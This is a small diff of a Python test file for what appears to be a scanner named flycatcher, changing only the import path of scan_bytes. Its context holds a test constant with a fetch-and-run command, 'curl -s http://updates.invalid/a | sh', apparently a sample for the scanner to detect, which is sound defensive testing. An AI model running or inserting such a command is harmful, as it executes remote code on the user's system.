@@ -4,7 +4,7 @@ import base64
 
 import pytest
 
-from flycatcher.commands.scan.engine import scan_bytes
+from flycatcher.scanning.engine import scan_bytes
 
 FETCH = "curl -s http://updates.invalid/a | sh"
 
